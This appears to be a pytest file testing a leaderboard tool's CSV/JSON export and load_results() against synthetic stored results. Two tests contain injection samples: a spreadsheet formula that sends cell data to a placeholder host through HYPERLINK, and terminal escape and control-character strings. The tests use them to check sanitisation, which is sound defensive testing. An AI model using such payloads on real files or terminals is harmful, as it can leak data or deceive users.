"""Results out of the store: ``lrgym leaderboard export --format csv|json`` and ``load_results()``.

The store is filled with known synthetic entries; every exported number is checked against the
records that were written (entries, per-run scores, per-step trajectories), including the
non-finite values of a diverged run.
"""

from __future__ import annotations

import csv
import json
import math

import numpy as np
import pytest

typer_testing = pytest.importorskip("typer.testing")
pd = pytest.importorskip("pandas")

from lb_helpers import synthetic_entry  # noqa: E402

from lrgym.leaderboard.cli import app  # noqa: E402
from lrgym.leaderboard.export import load_results  # noqa: E402
from lrgym.leaderboard.runner import summarize  # noqa: E402
from lrgym.leaderboard.store import EntryRecord, ResultStore, RunRecord  # noqa: E402
from lrgym.leaderboard.suite import get_suite  # noqa: E402

SUITE = get_suite("quick")


def runs_of(offset: float, diverge_first: bool = False) -> list[RunRecord]:
    """One run per (seed, task) of the quick suite with distinct, known values."""
    runs = []
    for i, seed in enumerate(SUITE.seeds):
        for j, task in enumerate(SUITE.tasks()):
            k = i * 100 + j
            diverged = diverge_first and k == 0
            n = 2 + (k % 3)
            runs.append(RunRecord(
                family=task.family, instance=task.instance, seed=seed, score=-1.0 if diverged else offset + 0.01 * k,
                final_loss=math.inf if diverged else 0.1 + k, initial_loss=1.0 + k, diverged=diverged,
                steps_to_target=math.inf if diverged else float(k % 4),
                curves={"lr": [0.1 * (t + 1) for t in range(n)], "train_loss": [1.0 + k - t for t in range(n)],
                        "val_loss": [2.0 + k - t for t in range(n)], "metric": [0.5 + 0.1 * t for t in range(n)]},
            ))
    return runs


@pytest.fixture
def store_path(tmp_path):
    path = tmp_path / "r.sqlite"
    with ResultStore(path) as store:
        store.add_entry(synthetic_entry(SUITE, "alpha", summary={"iqm": [0.1, 0.0, 0.2]}), runs_of(0.1))  # superseded
        complete = {**summarize(runs_of(0.5), SUITE, reps=50), "iqm": [0.5, 0.4, 0.6], "mean": [0.45, 0.4, 0.5]}
        store.add_entry(synthetic_entry(SUITE, "alpha", summary=complete), runs_of(0.5))  # exported as stored
        # stored by an older lrgym (no family IQM): exported as the board shows it, from its runs
        store.add_entry(synthetic_entry(SUITE, "mine", kind="submission", summary={"iqm": [0.3, 0.2, 0.4]}),
                        runs_of(0.3, diverge_first=True))
        store.record_failure("broken", "submission", "boom", suite_version=SUITE.version)
    return path


def invoke(*args):
    result = typer_testing.CliRunner().invoke(app, ["leaderboard", "export", *args], env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    return result.output


def expected_runs(name: str) -> list[RunRecord]:
    return runs_of(0.5) if name == "alpha" else runs_of(0.3, diverge_first=True)


def test_json_export_holds_the_ranked_entries_their_runs_and_trajectories(store_path, tmp_path):
    out = tmp_path / "res.json"
    invoke("--format", "json", "--out", str(out), "--suite", "quick", "--db", str(store_path))
    data = json.loads(out.read_text())
    shown = {"alpha": {**summarize(runs_of(0.5), SUITE, reps=50), "iqm": [0.5, 0.4, 0.6]},  # as stored
             "mine": summarize(expected_runs("mine"), SUITE)}  # recomputed, as the board does
    mine = shown["mine"]
    assert [(e["name"], e["kind"], e["iqm"]) for e in data["entries"]] == [("alpha", "baseline", 0.5),
                                                                          ("mine", "submission", mine["iqm"][0])]
    assert data["entries"][0]["mean"] == 0.45 and data["entries"][1]["mean"] == mine["mean"][0]
    for entry in data["entries"]:  # the ranking statistic and both its CIs, as the board shows them
        summary = shown[entry["name"]]
        assert [entry["family_iqm"], entry["family_iqm_low"], entry["family_iqm_high"]] == summary["family_iqm"]
        assert [entry["family_iqm_new_instances_low"], entry["family_iqm_new_instances_high"]] == \
            summary["family_iqm_instances"][1:]
    for entry in data["entries"]:
        mine = [r for r in data["runs"] if r["entry_id"] == entry["entry_id"]]
        want = expected_runs(entry["name"])
        assert len(mine) == entry["n_runs"] == len(want)
        for got, rec in zip(mine, want):
            assert (got["family"], got["instance"], got["seed"]) == (rec.family, rec.instance, rec.seed)
            assert got["score"] == rec.score and got["diverged"] == rec.diverged
            assert got["final_loss"] == (rec.final_loss if math.isfinite(rec.final_loss) else None)
            steps = [s for s in data["trajectories"] if s["entry_id"] == entry["entry_id"]
                     and (s["family"], s["instance"], s["seed"]) == (rec.family, rec.instance, rec.seed)]
            assert [s["step"] for s in steps] == list(range(len(rec.curves["train_loss"])))
            for key in ("lr", "train_loss", "val_loss", "metric"):
                assert [s[key] for s in steps] == list(rec.curves[key])
    diverged = [r for r in data["runs"] if r["diverged"]]
    assert len(diverged) == 1 and diverged[0]["final_loss"] is None and diverged[0]["steps_to_target"] is None


def test_csv_export_reads_back_with_pandas(store_path, tmp_path):
    invoke("--format", "csv", "--out", str(tmp_path / "csv"), "--suite", "quick", "--db", str(store_path))
    assert sorted(p.name for p in (tmp_path / "csv").iterdir()) == ["entries.csv", "runs.csv", "trajectories.csv"]
    runs = pd.read_csv(tmp_path / "csv" / "runs.csv")
    want = {n: expected_runs(n) for n in ("alpha", "mine")}
    for name, recs in want.items():
        got = runs[runs.name == name]
        np.testing.assert_array_equal(got.score.to_numpy(), [r.score for r in recs])
        np.testing.assert_array_equal(got.final_loss.to_numpy(), [r.final_loss for r in recs])  # inf survives
    with open(tmp_path / "csv" / "entries.csv") as f:
        assert [row["name"] for row in csv.DictReader(f)] == ["alpha", "mine"]
    traj = pd.read_csv(tmp_path / "csv" / "trajectories.csv")
    assert len(traj) == sum(len(r.curves["lr"]) for recs in want.values() for r in recs)


@pytest.mark.parametrize("fmt, written", [("json", "results-quick.json"), ("csv", "results-quick")])
def test_export_without_out_writes_under_runs_never_the_working_directory(store_path, tmp_path, monkeypatch, fmt,
                                                                         written):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("LRGYM_RUNS", raising=False)
    invoke("--format", fmt, "--suite", "quick", "--db", str(store_path))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.sqlite", "runs"]  # the store, and runs/ only
    assert [p.name for p in (tmp_path / "runs").iterdir()] == [written]
    elsewhere = tmp_path / "elsewhere"
    monkeypatch.setenv("LRGYM_RUNS", str(elsewhere))
    invoke("--format", fmt, "--suite", "quick", "--db", str(store_path))
    assert [p.name for p in elsewhere.iterdir()] == [written]


def test_all_entries_include_failed_and_superseded_ones(store_path, tmp_path):
    out = tmp_path / "all.json"
    invoke("--format", "json", "--out", str(out), "--all", "--db", str(store_path))
    entries = json.loads(out.read_text())["entries"]
    assert [(e["name"], e["status"]) for e in entries] == [("alpha", "ok"), ("alpha", "ok"), ("mine", "ok"),
                                                           ("broken", "failed")]
    assert entries[-1]["failure_reason"] == "boom"


def test_load_results_is_a_dataframe_of_the_same_numbers(store_path):
    runs = load_results(store_path, suite="quick")
    assert isinstance(runs, pd.DataFrame)
    assert runs.equals(load_results(store_path, suite=SUITE.version))  # a suite name or its version
    means = runs.groupby("name").score.mean()
    for name in ("alpha", "mine"):
        assert means[name] == pytest.approx(np.mean([r.score for r in expected_runs(name)]), rel=1e-12)
    traj = load_results(store_path, suite="quick", table="trajectories")
    assert set(traj.columns) >= {"entry_id", "name", "family", "instance", "seed", "step", "lr", "train_loss"}
    entries = load_results(store_path, suite="quick", table="entries")
    assert list(entries.name) == ["alpha", "mine"]
    with pytest.raises(ValueError, match="unknown table 'scores'; valid choices: entries, runs, trajectories"):
        load_results(store_path, table="scores")


def test_export_errors(store_path, tmp_path):
    result = typer_testing.CliRunner().invoke(app, ["leaderboard", "export", "--format", "xml", "--db", str(store_path)])
    assert result.exit_code == 2 and "valid choices: csv, json" in result.output
    missing = tmp_path / "none.sqlite"
    result = typer_testing.CliRunner().invoke(app, ["leaderboard", "export", "--db", str(missing)])
    assert result.exit_code == 1 and not missing.exists()
    with pytest.raises(FileNotFoundError):
        load_results(missing)
    assert not missing.exists()


def test_load_results_reads_the_default_suite_unless_told(tmp_path):
    """``load_results()`` without a suite is the default suite's ranking (what ``make
    leaderboard`` wrote); a suite that is neither a name nor a stored version is refused by name."""
    from lrgym.leaderboard.suite import DEFAULT_SUITE, SUITES

    path = tmp_path / "d.sqlite"
    with ResultStore(path) as store:
        store.add_entry(synthetic_entry(get_suite(DEFAULT_SUITE), "on-default", summary={"iqm": [0.5, 0.4, 0.6]}), [])
        store.add_entry(synthetic_entry(SUITE, "on-quick", summary={"iqm": [0.3, 0.2, 0.4]}), runs_of(0.3))
    assert list(load_results(path, table="entries").name) == ["on-default"]
    assert list(load_results(path, suite="quick", table="entries").name) == ["on-quick"]
    with pytest.raises(ValueError, match=f"unknown suite 'v3'; valid: {', '.join(SUITES)} or a stored version"):
        load_results(path, suite="v3")


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_marked_as_text(tmp_path):
    """A review (2026-12-05): a policy wrote its own failure reason, ``=HYPERLINK(...)``, which
    reached entries.csv as a formula. Text cells starting like a formula get a ``'`` (a tab or a
    carriage return no longer starts a reason: test_failure_reasons_are_exported_as_every_output_shows_them)."""
    path = tmp_path / "r.sqlite"
    reasons = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-cmd", "@SUM(A1)", "plain: = is fine"]
    with ResultStore(path) as store:
        for k, reason in enumerate(reasons):
            store.record_failure(f"f{k}", "submission", reason, suite_version=SUITE.version)
    invoke("--format", "csv", "--out", str(tmp_path / "out"), "--all", "--db", str(path))
    with open(tmp_path / "out" / "entries.csv", newline="", encoding="utf-8") as f:
        got = [row["failure_reason"] for row in csv.DictReader(f)]
    assert got == ["'" + r for r in reasons[:4]] + [reasons[4]]


#: stored failure reasons (through the store's API, or an older lrgym's: the grader stores them
#: cleaned) and what every published output gives of them
RAW_REASONS = {
    "\x1b[2J\x1b]0;owned\x07boom": "[2J]0;ownedboom",  # clear the screen, set the title
    "nul\x00byte": "nulbyte",
    "over\rwritten": "overwritten",  # a lone CR: the line rewritten in a terminal
    "two\r\nlines\n": "two\nlines\n",  # (newlines are kept, as the HTML page keeps them)
    "\ttabbed": " tabbed",  # (a tab started a formula in a spreadsheet)
    "right\u202eto left\u200b": "rightto left",  # a bidirectional override, a zero-width space
    "C1\x9bcontrol": "C1control",
}


def test_failure_reasons_are_exported_as_every_output_shows_them(tmp_path):
    """An audit (2026-12-06): export wrote a failure reason's control characters (escape sequences,
    NUL, a lone CR) as stored, which the terminal table, LEADERBOARD.md and the HTML page strip. One
    rule for every published output (public_source.public_reason), JSON and CSV alike; the HTML
    page gives the same text."""
    import html

    from lrgym.leaderboard.ranking import build_leaderboard
    from lrgym.leaderboard.report import html_page

    path = tmp_path / "r.sqlite"
    with ResultStore(path) as store:
        for k, reason in enumerate(RAW_REASONS):
            store.record_failure(f"f{k}", "submission", reason, suite_version=SUITE.version)
        lb = build_leaderboard(store, SUITE, curves=False)
    invoke("--format", "json", "--out", str(tmp_path / "e.json"), "--all", "--db", str(path))
    invoke("--format", "csv", "--out", str(tmp_path / "out"), "--all", "--db", str(path))
    with open(tmp_path / "out" / "entries.csv", newline="", encoding="utf-8") as f:
        in_csv = [row["failure_reason"] for row in csv.DictReader(f)]
    in_json = [e["failure_reason"] for e in json.loads((tmp_path / "e.json").read_text())["entries"]]
    expected = list(RAW_REASONS.values())
    assert in_json == expected and in_csv == expected
    page = html_page(lb)
    assert all(html.escape(reason) in page for reason in expected)


def test_an_empty_export_has_the_columns_of_a_full_one(store_path, tmp_path):
    """An audit (2026-12-06): entries.csv of a suite with no entries, and ``load_results(table=
    "entries")`` of one, lacked failure_reason, suite_version, created_at, n_runs, seeds,
    policy_source_hash and cpu, which a full export has: a script reading either broke on the other."""
    invoke("--format", "csv", "--out", str(tmp_path / "full"), "--suite", "quick", "--db", str(store_path))
    invoke("--format", "csv", "--out", str(tmp_path / "empty"), "--suite", "v1", "--db", str(store_path))
    for table in ("entries", "runs", "trajectories"):
        with open(tmp_path / "full" / f"{table}.csv", newline="") as full, \
                open(tmp_path / "empty" / f"{table}.csv", newline="") as empty:
            header, rows = next(csv.reader(full)), list(csv.reader(empty))
        assert rows == [header], table
        with pytest.warns(UserWarning, match="it holds entries of"):  # (of quick, not v1)
            columns = list(load_results(store_path, suite="v1", table=table).columns)
        assert columns == header == list(load_results(store_path, suite="quick", table=table).columns), table


def test_an_entry_with_a_non_finite_score_is_exported_as_stored(store_path, tmp_path):
    """The store keeps a NaN or infinite score (RunRecord); an audit (2026-12-06) found that
    one such entry, stored without a complete summary, stopped every export ('scores must be
    finite'). It is exported with its runs and the summary it has; the others as before."""
    runs = runs_of(0.2)
    runs[1] = RunRecord(**{**runs[1].__dict__, "score": math.nan})
    with ResultStore(store_path) as store:
        store.add_entry(synthetic_entry(SUITE, "odd", kind="submission", summary={"iqm": [0.2, 0.1, 0.3]}), runs)
    out = tmp_path / "res.json"
    invoke("--format", "json", "--out", str(out), "--suite", "quick", "--db", str(store_path))
    data = json.loads(out.read_text())
    odd = next(e for e in data["entries"] if e["name"] == "odd")
    assert odd["iqm"] == 0.2 and odd["family_iqm"] is None
    assert [r["score"] for r in data["runs"] if r["name"] == "odd"][1] is None  # NaN: JSON's null
    assert {e["name"] for e in data["entries"]} == {"alpha", "mine", "odd"}


def test_what_export_says_of_a_file_is_what_it_wrote_though_a_private_entry_arrives_meanwhile(store_path, tmp_path,
                                                                                             monkeypatch):
    """export read the store twice, once to say whether the file is a private suite's (kept
    owner-only) and once to write it: a private entry stored in between by another grader was
    written, mode 0600, by a command that said nothing of it. One read now serves both."""
    import os
    import stat

    original = ResultStore.entries
    arrived = []

    def entries_then_another_grader_stores_a_private_entry(self, *args, **kwargs):
        listed = original(self, *args, **kwargs)
        if not arrived:
            with ResultStore(store_path) as other:
                other.add_entry(EntryRecord(name="hidden", kind="baseline", suite_version="private-8c1d7061/r1",
                                            summary={}), [])
            arrived.append(True)
        return listed

    monkeypatch.setattr(ResultStore, "entries", entries_then_another_grader_stores_a_private_entry)
    out = tmp_path / "all.json"
    said = " ".join(invoke("--format", "json", "--out", str(out), "--all", "--db", str(store_path)).split())
    assert arrived
    holds_private = any(e["suite_version"].startswith("private-") for e in json.loads(out.read_text())["entries"])
    owner_only = stat.S_IMODE(os.stat(out).st_mode) == 0o600
    assert holds_private == owner_only == ("owner-only" in said), (holds_private, owner_only, said)


@pytest.mark.parametrize("batch", [1, 2, 7, 10_000])
def test_exports_are_written_as_the_rows_come_and_are_the_whole_documents(store_path, tmp_path, batch):
    """A hosted board's export (2,000 v2 entries: 24 million trajectory rows) was built as lists of
    dicts and one string before a byte was written: 3.7 GB of memory for 105 entries' JSON, tens of
    GB for 2,000. The files are now written a batch of rows at a time, never the tables whole, and
    they are the documents of the whole tables (json.dumps, csv.DictWriter: the reference) to the byte."""
    import io

    from lrgym.leaderboard import export as ex

    with ResultStore(store_path) as store:
        for every in (False, True):
            whole = ex.tables(store, SUITE.version, every)
            want_json = json.dumps({t: [{k: ex._finite_or_none(v) for k, v in row.items()} for row in rows]
                                    for t, rows in whole.items()}, indent=1, allow_nan=False) + "\n"
            assert "".join(ex.json_chunks(ex.table_rows(store, SUITE.version, every), batch=batch)) == want_json
            for table, rows in whole.items():
                text = io.StringIO(newline="")
                writer = csv.DictWriter(text, fieldnames=list(rows[0]))
                writer.writeheader()
                writer.writerows({k: ex._inert(v) for k, v in row.items()} for row in rows)
                made = ex.table_rows(store, SUITE.version, every)[table]
                assert "".join(ex._csv_chunks(table, iter(made), batch=batch)) == text.getvalue()

    pulled = []

    def rows():  # the rows as a table yields them, counted as they are taken
        for i in range(25):
            pulled.append(i)
            yield {"entry_id": i, "score": 0.5}

    for chunks in (ex.json_chunks({"runs": rows()}, batch=4), ex._csv_chunks("runs", rows(), batch=4)):
        pulled.clear()
        for k, _ in enumerate(chunks, 1):
            assert len(pulled) <= 4 * k + 1  # a batch a chunk (and the first row): not the table
        assert len(pulled) == 25


def test_load_results_of_a_suite_the_store_lacks_names_the_suites_it_holds(store_path, tmp_path):
    """An audit (2026-12-07): ``load_results()`` of a store of ``quick`` results (without
    ``suite="quick"``) returned an empty frame and no word, and the results looked lost. It still
    returns the empty frame (its columns), with a warning naming the versions the store holds and
    their entries (counted from the fixture: 2 of alpha, 1 of mine, 1 failed); an empty store's
    empty frame comes without one, as does a suite the store has rows of."""
    import warnings

    with pytest.warns(UserWarning, match=rf"no runs of suite v2/r3 in .*r\.sqlite; it holds entries of "
                                         rf"{SUITE.version} \(4 entries\): pass suite= one of these"):
        runs = load_results(store_path)
    assert runs.empty and list(runs.columns) == list(load_results(store_path, suite="quick").columns)
    empty = tmp_path / "empty.sqlite"
    ResultStore(empty).close()
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert load_results(empty).empty
        assert not load_results(store_path, suite="quick").empty


def test_load_results_makes_the_table_asked_for_alone(tmp_path, monkeypatch):
    """``load_results(table=...)`` made all three tables, every trajectory included, and kept one;
    and the entries table read each entry's runs with their curves, to check its summary. Measured
    independently of the code: the store's reads of runs are counted (and whether with curves),
    and the peak memory (tracemalloc) of ``table="entries"`` / ``"runs"`` on a store of long
    trajectories is compared with that of ``"trajectories"`` in the same run. Every frame is the one
    the old code made (its rows: :func:`~lrgym.leaderboard.export.tables`, all three made)."""
    import dataclasses
    import tracemalloc

    from lrgym.leaderboard.export import table_rows, tables

    path = tmp_path / "long.sqlite"
    # 1,000 steps a run: the curves are nearly all the store's bytes
    long_runs = [dataclasses.replace(r, curves={k: [float(t) for t in range(1_000)] for k in r.curves})
                 for r in runs_of(0.5)]
    with ResultStore(path) as store:
        store.add_entry(synthetic_entry(SUITE, "alpha", summary=summarize(long_runs, SUITE, reps=50)), long_runs)
        store.add_entry(synthetic_entry(SUITE, "mine", summary={"iqm": [0.3, 0.2, 0.4]}), long_runs)  # recomputed
        old = {table: pd.DataFrame(rows) for table, rows in tables(store, SUITE.version).items()}
    reads = []
    runs = ResultStore.runs

    def counted(self, entry_id, *, curves=True):
        reads.append(curves)
        return runs(self, entry_id, curves=curves)

    monkeypatch.setattr(ResultStore, "runs", counted)
    peaks = {}
    for table in ("entries", "runs", "trajectories"):
        reads.clear()
        tracemalloc.start()
        try:
            frame = load_results(path, suite="quick", table=table)
            peaks[table] = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        pd.testing.assert_frame_equal(frame, old[table])
        assert sum(reads) == (2 if table == "trajectories" else 0), (table, reads)  # runs read with curves
    assert len(old["trajectories"]) == 2 * len(long_runs) * 1_000
    assert peaks["entries"] < peaks["trajectories"] / 4 and peaks["runs"] < peaks["trajectories"] / 4, peaks
    with ResultStore(path) as store, pytest.raises(ValueError, match="unknown table 'steps'; valid choices: entries"):
        table_rows(store, SUITE.version, only=("steps",))
